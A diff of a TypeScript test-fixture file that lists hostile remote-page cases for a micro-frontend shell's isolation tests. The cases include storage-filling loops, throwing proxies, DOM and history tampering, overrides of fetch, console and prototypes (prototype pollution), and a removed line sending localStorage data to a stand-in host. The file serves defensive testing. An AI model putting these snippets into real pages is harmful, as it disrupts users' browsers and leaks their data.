@@ -152,6 +152,10 @@ const count = 'globalThis.labCount = (globalThis.labCount ?? 0) + 1'
 const isOff = (condition: string) =>
   `(async () => { await new Promise((done) => setTimeout(done, 2_000)); return ${condition} })()`
 
+/** Every question to it throws. */
+const hostileProxy =
+  "new Proxy({}, { get() { throw new Error('asked') }, has() { throw new Error('asked') }, getPrototypeOf() { throw new Error('asked') } })"
+
 export const leftOvers: readonly HostilePage[] = [
   { what: 'starts an interval', code: once(every(50, count)), traceless: countsOn, isQuick: true },
   {
@@ -210,6 +214,59 @@ export const leftOvers: readonly HostilePage[] = [
     code: once('setTimeout(() => { throw undefined }, 500)'),
     mark: 'timer',
   },
+  {
+    what: 'rejects a promise with a proxy that throws when it is asked',
+    code: once(`setTimeout(() => Promise.reject(${hostileProxy}), 500)`),
+    mark: 'promise',
+  },
+  {
+    what: 'throws a proxy in an effect that throws when it is asked',
+    code: once(`throw ${hostileProxy}`),
+    card: 'effect',
+  },
+  {
+    what: 'fills the storage of the browser',
+    code: once(
+      "try { for (let size = 2 ** 22; size >= 1; size /= 2) for (;;) try { localStorage.setItem('fill' + size + Math.random(), 'x'.repeat(size)) } catch { break } } catch {}",
+    ),
+    isQuick: true,
+  },
+  {
+    what: 'marks the body, its classes and its style',
+    code: once(
+      "document.body.setAttribute('data-lab', '1'); document.body.classList.add('lab-class'); document.body.style.transform = 'rotate(2deg)'",
+    ),
+    traceless: isOff(
+      "!document.body.hasAttribute('data-lab') && !document.body.classList.contains('lab-class') && document.body.style.transform === ''",
+    ),
+  },
+  {
+    what: 'takes the handlers of the window',
+    code: once(`window.onclick = () => { ${count} }; document.onkeydown = window.onclick`),
+    traceless: isOff('window.onclick === null && document.onkeydown === null'),
+  },
+  {
+    what: 'puts markup into the body',
+    code: once("document.body.insertAdjacentHTML('beforeend', '<b class=lab-cover>over all</b>')"),
+    traceless: isOff("document.querySelector('.lab-cover') === null"),
+  },
+  {
+    what: 'opens a channel to other tabs',
+    code: once(
+      "globalThis.labChannel = new BroadcastChannel('lab'); globalThis.labChannel.onmessage = () => { globalThis.labHeard = true }",
+    ),
+    traceless: `(async () => {
+      await new Promise((done) => setTimeout(done, 2_000))
+      const other = new BroadcastChannel('lab'); other.postMessage(1)
+      await new Promise((done) => setTimeout(done, 500)); other.close()
+      return globalThis.labHeard !== true
+    })()`,
+  },
+  {
+    what: 'adds an entry to the history and changes the title',
+    code: once("history.pushState(null, '', '/nowhere'); document.title = 'mine'"),
+    traceless: "document.title !== 'mine'",
+  },
 ]
 
 /** Runs once the page was mounted: until then its remote counts as not working anyway, and has no mark. */
@@ -224,7 +281,6 @@ export const refused: readonly HostilePage[] = [
     ),
     mark: 'policy',
     traceless: isOff("getComputedStyle(document.querySelector('header h1')).color !== 'rgb(1, 2, 3)'"),
-    isQuick: true,
   },
   {
     what: 'evaluates text',
@@ -232,12 +288,36 @@ export const refused: readonly HostilePage[] = [
     mark: 'policy',
     traceless: "!('labEvaluated' in globalThis)",
   },
-  {
-    what: 'sends what it read to another host',
-    code: later("fetch('https://elsewhere.example/?' + localStorage.length).catch(() => {})"),
-    mark: 'policy',
-  },
 ]
+
+/** Functions that all pages rely on. The shell restores them and marks the remote. */
+export const patches: readonly HostilePage[] = [
+  {
+    what: 'replaces fetch',
+    code: once("globalThis.fetch = () => Promise.reject(new Error('no'))"),
+    isQuick: true,
+    traceless: 'fetch.toString().includes("Promise.reject") === false',
+  },
+  {
+    what: 'replaces the console',
+    code: once(
+      "for (const name of ['log', 'warn', 'error']) console[name] = () => { throw new Error('no') }",
+    ),
+    traceless: "(() => { try { console.log('lab'); return true } catch { return false } })()",
+  },
+  {
+    what: 'changes a prototype of the language',
+    code: once(
+      "Array.prototype.copyWithin = () => []; Object.defineProperty(Object.prototype, 'labPolluted', { value: 1, configurable: true, enumerable: false })",
+    ),
+    traceless: "[1, 2].copyWithin(0, 1).length === 2 && !('labPolluted' in {})",
+  },
+  {
+    what: 'replaces how the history is written',
+    code: once('history.pushState = () => {}; History.prototype.replaceState = () => {}'),
+    traceless: "!Object.hasOwn(history, 'pushState')",
+  },
+].map((one) => ({ ...one, mark: 'policy' }))
 
 /** A build that is wrong before its page can be rendered. */
 export interface HostileBuild {
@@ -266,7 +346,7 @@ export const wrongBuilds: readonly HostileBuild[] = [
   { what: 'manifest is other JSON', fault: ['mf-manifest.json', 'otherJson'], card: 'manifest-invalid' },
   { what: 'page chunk is missing', fault: ['page.js', 'missing'], card: 'chunk' },
   { what: 'entry is no JavaScript', options: { throws: 'syntax' }, card: 'entry' },
-  { what: 'page throws while it is evaluated', options: { throws: 'module' }, card: 'module', isQuick: true },
+  { what: 'page throws while it is evaluated', options: { throws: 'module' }, card: 'module' },
   { what: 'page chunk has no digest', options: { fileWithoutDigest: 'page.js' }, card: 'no-digest' },
   {
     what: 'contract is of another platform',
